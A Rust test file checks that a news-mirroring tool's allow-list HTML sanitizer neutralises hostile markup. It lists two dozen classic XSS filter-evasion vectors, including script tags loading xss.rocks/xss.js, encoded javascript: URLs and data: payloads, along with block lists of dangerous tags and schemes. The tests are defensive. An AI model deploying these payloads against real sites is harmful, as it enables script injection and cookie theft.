//! The allow-list sanitizer against hostile HTML: the feed farm's `xss` payloads and the
//! classic filter-evasion vectors. Nothing executable survives; article markup does.

mod common;

use common::FARM_XSS;
use newsmirror::clean::sanitize;

/// Classic vectors (OWASP filter-evasion cheat sheet and friends).
const CLASSIC: [&str; 24] = [
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
];

fn assert_inert(input: &str) {
    let base = url::Url::parse("https://news.example/a/1.html").unwrap();
    let out = sanitize(input, &base);
    let lower = out.to_ascii_lowercase();
    for bad in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<meta",
        "<base",
        "<style",
        "<svg",
        "<math",
        "<link",
        "expression(",
    ] {
        assert!(
            !lower.contains(bad),
            "{bad} survived\n  in:  {input}\n  out: {out}"
        );
    }
    // No URL attribute whose scheme is executable (a path merely holding the word, once made
    // absolute against the page, is harmless).
    for bad in [
        "=\"javascript:",
        "='javascript:",
        "=javascript:",
        "=\"vbscript:",
        "=\"data:text",
        "=\"data:image/svg",
    ] {
        assert!(
            !lower.contains(bad),
            "{bad} survived\n  in:  {input}\n  out: {out}"
        );
    }
    // No event handler attribute: ` on…=` inside a tag.
    let mut in_tag = false;
    let chars: Vec<char> = lower.chars().collect();
    for (i, c) in chars.iter().enumerate() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            _ if in_tag && c.is_whitespace() => {
                let rest: String = chars[i + 1..].iter().take(12).collect();
                assert!(
                    !(rest.starts_with("on") && rest.contains('=')),
                    "event handler survived\n  in:  {input}\n  out: {out}"
                );
            }
            _ => {}
        }
    }
}

#[test]
fn hostile_html_is_made_inert() {
    for p in FARM_XSS.iter().chain(CLASSIC.iter()) {
        assert_inert(p);
    }
}

#[test]
fn ordinary_article_markup_survives() {
    let base = url::Url::parse("https://news.example/a/1.html").unwrap();
    let html = "<h2>小标题</h2><p>第一段<strong>强调</strong><em>斜体</em><a href=\"https://x.example/\">链接</a></p>\
<figure><img src=\"/i.jpg\" alt=\"图\" width=\"600\"><figcaption>说明</figcaption></figure>\
<blockquote><p>引文</p></blockquote><ol><li>一</li><li>二</li></ol>\
<table><thead><tr><th>甲</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>\
<img src=\"data:image/png;base64,iVBORw0KGgo=\">";
    let out = sanitize(html, &base);
    for keep in [
        "<h2>小标题</h2>",
        "<strong>强调</strong>",
        "<em>斜体</em>",
        "<figure>",
        "<figcaption>说明</figcaption>",
        "<blockquote><p>引文</p></blockquote>",
        "<ol><li>一</li><li>二</li></ol>",
        "<th>甲</th>",
        "<td>1</td>",
        "src=\"https://news.example/i.jpg\"",
        "alt=\"图\"",
        "rel=\"noopener noreferrer\"",
        "data:image/png;base64",
    ] {
        assert!(out.contains(keep), "{keep} lost: {out}");
    }
}

/// Each of the farm's payloads, and what exactly is left of it: its text and inert markup,
/// nothing else. (An expectation of `""` is checked as equality, so it can fail.)
#[test]
fn each_farm_payload_leaves_exactly_its_inert_part() {
    let base = url::Url::parse("https://news.example/a/1.html").unwrap();
    let expected = [
        "<p>正文</p>",
        "<img src=\"https://news.example/a/x\"><p>图片</p>",
        "<a rel=\"noopener noreferrer\">链接</a>",
        "<a rel=\"noopener noreferrer\">编码链接</a>",
        "<p>框架</p>",
        "<p>矢量</p>",
        "<div>样式</div>",
        "",
        "",
        "<p>事件</p>",
        "",
        "",
        "<p>base</p>",
        "<img>",
        "<p>隐藏</p>",
        "<img src=\"https://news.example/a/x\">\"&gt;",
    ];
    for (payload, want) in FARM_XSS.iter().zip(expected) {
        assert_eq!(sanitize(payload, &base), want, "{payload}");
    }
}

/// Only `http`, `https` and `mailto` links survive, however the scheme is disguised, and
/// `srcset` candidates are checked like any URL.
#[test]
fn only_web_and_mail_links_survive() {
    let base = url::Url::parse("https://news.example/a/1.html").unwrap();
    for (payload, want) in [
        (
            "<a href=\"\x01data:text/html,<script>alert(1)</script>\">x</a>",
            "<a rel=\"noopener noreferrer\">x</a>",
        ),
        (
            "<img src=\"\x01data:image/svg+xml,<svg onload=alert(1)>\">",
            "<img>",
        ),
        (
            "<picture><source srcset=\"javascript:alert(1) 1x, /ok.jpg 2x\"><img src=\"/i.jpg\"></picture>",
            "<picture><source srcset=\"https://news.example/ok.jpg 2x\"><img src=\"https://news.example/i.jpg\"></picture>",
        ),
        (
            "<picture><source srcset=\"javascript:alert(1)\"></picture>",
            "<picture><source></picture>",
        ),
        (
            "<a href=\"ftp://x.example/\">f</a><a href=\"tel:123\">t</a><a href=\"mailto:a@b.c\">m</a>",
            "<a rel=\"noopener noreferrer\">f</a><a rel=\"noopener noreferrer\">t</a><a href=\"mailto:a@b.c\" rel=\"noopener noreferrer\">m</a>",
        ),
        (
            "<a href=\"jav&#x09;ascript:alert(1)\">j</a><a href=\" \x0b javascript:alert(1)\">k</a>",
            "<a rel=\"noopener noreferrer\">j</a><a rel=\"noopener noreferrer\">k</a>",
        ),
        (
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img>",
        ),
    ] {
        assert_eq!(sanitize(payload, &base), want, "{payload:?}");
    }
}
